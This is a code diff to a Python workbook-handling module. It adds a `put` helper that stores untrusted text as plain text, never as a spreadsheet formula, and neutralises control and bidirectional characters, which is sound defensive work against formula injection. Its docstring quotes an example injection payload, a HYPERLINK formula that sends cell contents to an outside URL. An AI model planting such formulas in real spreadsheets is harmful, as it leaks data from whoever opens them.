@@ -9,13 +9,14 @@ from __future__ import annotations
 
 import copy
 import functools
-from collections.abc import Callable
+from collections.abc import Callable, Iterable
 from pathlib import Path
 from typing import TYPE_CHECKING, Any, TypeVar
 
 from pipeline.discover import sha256_file
 from pipeline.model import DvkError
 from pipeline.platform import files
+from pipeline.vntext import neutralise
 
 T = TypeVar("T")
 
@@ -93,6 +94,29 @@ def open_workbook(path: Path, read_only: bool = False) -> Workbook:
         raise DvkError(
             f"Không mở được sổ thẩm định {path}: {exc}. Không ghi đè; sửa hoặc chuyển tệp đi."
         ) from exc
+
+
+def put(cell: Cell, value: object) -> Cell:
+    """Write `value` into `cell`: the one way dvk writes a cell whose text may come from a file, a name
+    or a certificate. Such text is stored as text, never as a formula: openpyxl stores any text starting
+    with "=" as a formula, and `=HYPERLINK("http://…/?d="&B2,"Xem")` as a model's name would run in the
+    secretariat's Excel or LibreOffice (text starting with "+", "-" or "@" is text already). Control and
+    bidirectional characters are neutralised as everywhere dvk shows text (`vntext.neutralise`)."""
+    if isinstance(value, str):
+        value = neutralise(value)
+        cell.value = value
+        if cell.data_type == "f":
+            cell.data_type = "s"
+    else:
+        cell.value = value
+    return cell
+
+
+def text_cells(sheet: Any, values: Iterable[object]) -> list[Cell]:
+    """`values` as cells for `sheet.append` (normal or write-only sheet), each written by `put`."""
+    from openpyxl.cell import WriteOnlyCell
+
+    return [put(WriteOnlyCell(sheet), value) for value in values]
 
 
 def style_like(cell: Cell, sample: Cell) -> Cell:
